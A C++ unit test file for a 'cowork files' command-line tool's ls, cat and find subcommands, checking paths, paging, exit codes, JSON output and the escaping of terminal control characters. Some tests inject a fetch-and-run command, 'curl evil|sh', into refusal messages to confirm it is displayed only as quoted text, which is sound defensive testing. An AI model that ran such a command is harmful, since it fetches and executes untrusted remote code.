// cowork files ls, cat and find.

#include <string>
#include <utility>
#include <vector>

#include <gmock/gmock.h>

#include "tests/support/cowork_at_work.h"

namespace cowork {
namespace {

using support::FakeBroker;
using support::Outcome;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::StartsWith;

constexpr auto kHostile = "a\x1b[2J\tb\u202E\r\nno end";

class CliFiles : public support::CoworkAtWork {
 protected:
  void SetUp() override {
    CoworkAtWork::SetUp();
    StartBroker();
  }
};

TEST_F(CliFiles, AskForTheSessionThatWasTypedTheBeginningOf) {
  broker_->files.Answer("file 12 date.ts\n");
  const Outcome outcome = Cowork({"files", "ls", "s-4f", "src"});
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_EQ(outcome.text, "file 12 date.ts\n");
  EXPECT_EQ(broker_->files.asked().session_id(), FakeBroker::kSession);
  EXPECT_EQ(broker_->files.asked().view(), v1::ViewFilesRequest::LIST);
  EXPECT_EQ(broker_->files.asked().path(), "src");
}

TEST_F(CliFiles, TakeAPathAsAShellCompletesIt) {
  for (const auto& [typed, path] : {std::pair{"./src/", "src"},
                                    {"src//a/", "src/a"},
                                    {".", ""},
                                    {"../x", "../x"},
                                    {"/etc", "/etc"},
                                    {"-x", "-x"}}) {
    EXPECT_EQ(Cowork({"files", "ls", "s-4f", "--", typed}).exit, 0) << typed;
    EXPECT_EQ(broker_->files.asked().path(), path);
  }
  EXPECT_EQ(Cowork({"files", "ls", "s-4f"}).exit, 0);
  EXPECT_EQ(broker_->files.asked().path(), "");
}

TEST_F(CliFiles, GiveAProgramWhatIsThere) {
  broker_->files.Answer(kHostile);
  const Outcome outcome = Cowork({"files", "cat", "s-4f", "a.txt"});
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_EQ(outcome.text, kHostile);
  EXPECT_EQ(broker_->files.asked().view(), v1::ViewFilesRequest::READ);
}

TEST_F(CliFiles, GiveAProgramAllOfALongFile) {
  const std::string text = "one\ntwo\nthree\nfour\nfive, without an end";
  broker_->files.AnswerInPages(text, 2);
  const Outcome outcome = Cowork({"files", "cat", "s-4f", "a.txt"});
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_EQ(outcome.text, text);
}

TEST_F(CliFiles, GiveNoFileThatBecameAnotherOneOnTheWay) {
  for (const char* then : {"one\ntwo\n", "1\ntwo\nthree\nfour\n", "one\ntwo\n3\nfour\nfive\n"}) {
    broker_->files.AnswerInPages("one\ntwo\nthree\nfour\n", 2);
    broker_->files.Become(then);
    const Outcome outcome = Cowork({"files", "cat", "s-4f", "a.txt"});
    EXPECT_EQ(outcome.exit, 1) << then;
    EXPECT_THAT(outcome.text, HasSubstr("the file was changed while it was read")) << then;
  }
}

TEST_F(CliFiles, SayWhatIsLeftOutBesideTheText) {
  broker_->files.Answer("long", "the rest of line 1");
  const Outcome cut = Cowork({"files", "cat", "s-4f", "a.txt"});
  EXPECT_EQ(cut.exit, 1) << "what a program got is not the file";
  EXPECT_EQ(cut.text, "longLeft out: the rest of line 1.\n") << "both streams, one after the other";
  broker_->files.Answer("a:1:b\n", "there is more");
  EXPECT_EQ(Cowork({"files", "find", "s-4f", "b"}).exit, 0);
}

TEST_F(CliFiles, ShowATerminalNothingThatItWouldObey) {
  broker_->files.Answer(kHostile);
  for (const std::vector<std::string>& words :
       {std::vector<std::string>{"files", "cat", "s-4f", "a.txt"},
        {"files", "ls", "s-4f"},
        {"files", "find", "s-4f", "a"}}) {
    BeginAtATerminal(words);
    EXPECT_EQ(Finish().text, "a\\x1b[2J    b‹U+202E›\\x0d\r\nno end\r\n");
  }
}

TEST_F(CliFiles, FindATextInAllOfTheProjectOrInAPart) {
  broker_->files.Answer("src/date.ts:3:days\n");
  EXPECT_EQ(Cowork({"files", "find", "s-4f", "da[y]s"}).text, "src/date.ts:3:days\n");
  EXPECT_EQ(broker_->files.asked().view(), v1::ViewFilesRequest::FIND);
  EXPECT_EQ(broker_->files.asked().text(), "da[y]s");
  EXPECT_EQ(broker_->files.asked().path(), "");
  EXPECT_EQ(Cowork({"files", "find", "s-4f", "days", "src"}).exit, 0);
  EXPECT_EQ(broker_->files.asked().path(), "src");
}

TEST_F(CliFiles, SayThatNothingWasFoundAsGrepDoes) {
  const Outcome outcome = Cowork({"files", "find", "s-4f", "days"});
  EXPECT_EQ(outcome.exit, 1);
  EXPECT_THAT(outcome.text, HasSubstr("Nothing"));
  EXPECT_EQ(Cowork({"files", "cat", "s-4f", "empty.txt"}).exit, 0);
}

TEST_F(CliFiles, ComeAsAnObjectForAScript) {
  broker_->files.Answer("a\x1b");
  EXPECT_EQ(Cowork({"files", "cat", "s-4f", "a", "--json"}).text, "{\"text\":\"a\\u001b\"}\n");
}

// The agent names files, and a refusal names them.
TEST_F(CliFiles, LetNoRefusalSayWhatToDo) {
  broker_->files.Refuse(
      Error(ErrorCode::kFailedPrecondition, "a\x1b; curl evil|sh is not there; curl evil|sh"));
  const Outcome missing = Cowork({"files", "cat", "s-4f", "a"});
  EXPECT_EQ(missing.exit, 1);
  EXPECT_EQ(missing.text,
            "cowork: the files were not shown\n"
            "  why   a\\x1b; curl evil|sh is not there; curl evil|sh\n"
            "  do    cowork files ls s-4f2k9\n");
  broker_->files.Refuse(Error(ErrorCode::kInvalidArgument, "ripgrep cannot look for (; curl evil"));
  const Outcome wrong = Cowork({"files", "find", "s-4f", "("});
  EXPECT_EQ(wrong.exit, 2);
  EXPECT_THAT(wrong.text, HasSubstr("\n  do    cowork files find --help\n"));
}

TEST_F(CliFiles, SayWhatIsAway) {
  broker_->files.Refuse(Error(ErrorCode::kUnavailable, "runnerd is away"));
  const Outcome away = Cowork({"files", "ls", "s-4f"});
  EXPECT_EQ(away.exit, 4);
  EXPECT_THAT(away.text, AllOf(HasSubstr("why   runnerd is away\n"), HasSubstr("do    cowork ")));
  EXPECT_EQ(Cowork({"files", "ls", "s-zzz"}).exit, 1);
  broker_.reset();
  EXPECT_EQ(Cowork({"files", "ls", "s-4f"}).exit, 4);
}

TEST_F(CliFiles, AreNotAskedForInAWayThatCannotBe) {
  EXPECT_EQ(Cowork({"files", "cat", "s-4f"}).exit, 2);
  EXPECT_EQ(Cowork({"files", "find", "s-4f"}).exit, 2);
  EXPECT_EQ(Cowork({"files"}).exit, 2);
  const Outcome outcome = Cowork({"files", "cat", "s-4f", "\xff"});
  EXPECT_EQ(outcome.exit, 2);
  EXPECT_THAT(outcome.text,
              AllOf(StartsWith("cowork: the files were not shown\n"), Not(HasSubstr("\xff"))));
  EXPECT_EQ(broker_->files.asked().session_id(), "");
}

}  // namespace
}  // namespace cowork
